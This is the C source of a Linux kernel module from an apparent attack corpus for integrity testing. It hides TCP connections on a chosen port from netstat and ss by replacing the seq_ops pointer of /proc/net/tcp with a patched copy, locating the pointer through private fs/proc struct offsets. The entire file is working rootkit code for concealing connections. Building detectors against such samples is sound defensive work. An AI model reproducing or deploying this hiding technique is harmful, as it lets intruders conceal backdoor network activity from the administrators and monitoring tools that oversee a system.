// SPDX-License-Identifier: GPL-2.0
/*
 * vmiaas_attack_procnet: a connection hider, for the integrity tests.
 * The kernel's /proc/net/tcp entry of the initial network namespace
 * (a struct proc_dir_entry in the heap) points at the const
 * tcp4_seq_ops; the module points it at a writable copy in its own
 * memory whose show() skips every socket bound to local port @port, so
 * netstat and ss -- which read /proc/net/tcp -- no longer list it. The
 * hidden lines are counted in @hits. Kernel text and rodata are intact:
 * the only change is the entry's seq_ops pointer.
 *
 * struct proc_dir_entry and struct proc_inode are private to fs/proc, as
 * for any rootkit: the entry is found through the inode of the opened
 * file (proc_inode.pde, 24 bytes into struct proc_inode, whose
 * vfs_inode is at 72: the same in Debian's 6.1 and 6.12), and its
 * seq_ops slot by value (the seq_file's op is the entry's seq_ops).
 * Unloading puts the pointer back.
 */
#define pr_fmt(fmt) KBUILD_MODNAME ": " fmt

#include <linux/err.h>
#include <linux/fs.h>
#include <linux/init.h>
#include <linux/kernel.h>
#include <linux/module.h>
#include <linux/moduleparam.h>
#include <linux/seq_file.h>
#include <linux/string.h>
#include <net/sock.h>

#define PROC_INODE_VFS		72	/* offsetof(struct proc_inode, vfs_inode) */
#define PROC_INODE_PDE		24	/* offsetof(struct proc_inode, pde) */
#define PDE_SCAN		176	/* sizeof(struct proc_dir_entry) */

static ushort port = 31338;
module_param(port, ushort, 0444);
MODULE_PARM_DESC(port, "local TCP port to hide from /proc/net/tcp");

static unsigned int hits;
module_param(hits, uint, 0444);
MODULE_PARM_DESC(hits, "lines hidden");

static const struct seq_operations *orig_ops;
static const struct seq_operations **ops_slot;
/* the writable copy of the table: its function pointers, show replaced */
static void *hide_ops[8];

static int vmiaas_attack_procnet_show(struct seq_file *seq, void *v)
{
	if (v != SEQ_START_TOKEN &&
	    ((struct sock_common *)v)->skc_num == port) {
		WRITE_ONCE(hits, READ_ONCE(hits) + 1);
		return 0;
	}
	return orig_ops->show(seq, v);
}

/* The seq_ops slot of /proc/net/tcp's entry, and what it holds. */
static int vmiaas_attack_procnet_find(void)
{
	struct seq_file *seq;
	struct file *f;
	u8 *pde;
	int i, err = -ENOENT;

	f = filp_open("/proc/net/tcp", O_RDONLY, 0);
	if (IS_ERR(f))
		return PTR_ERR(f);
	seq = f->private_data;
	orig_ops = seq->op;
	pde = *(u8 **)((u8 *)file_inode(f) - PROC_INODE_VFS + PROC_INODE_PDE);
	for (i = 0; pde && i + sizeof(void *) <= PDE_SCAN; i += sizeof(void *))
		if (*(const void **)(pde + i) == orig_ops) {
			ops_slot = (const struct seq_operations **)(pde + i);
			err = 0;
			break;
		}
	filp_close(f, NULL);
	return err;
}

static int __init vmiaas_attack_procnet_init(void)
{
	int err = vmiaas_attack_procnet_find();

	if (err) {
		pr_err("no seq_ops slot found in /proc/net/tcp's entry\n");
		return err;
	}
	BUILD_BUG_ON(sizeof(*orig_ops) > sizeof(hide_ops));
	memcpy(hide_ops, orig_ops, sizeof(*orig_ops));
	hide_ops[offsetof(typeof(*orig_ops), show) / sizeof(void *)] =
		vmiaas_attack_procnet_show;
	WRITE_ONCE(*ops_slot, (const void *)hide_ops);
	pr_info("/proc/net/tcp seq_ops %ps -> the module's copy: port %u hidden\n",
		orig_ops, port);
	return 0;
}

static void __exit vmiaas_attack_procnet_exit(void)
{
	WRITE_ONCE(*ops_slot, orig_ops);
	pr_info("/proc/net/tcp seq_ops restored after %u hidden lines\n", hits);
}

module_init(vmiaas_attack_procnet_init);
module_exit(vmiaas_attack_procnet_exit);

MODULE_DESCRIPTION("vmiaas attack corpus: /proc/net/tcp seq_ops swap");
MODULE_AUTHOR("vmiaas developers");
MODULE_LICENSE("GPL");
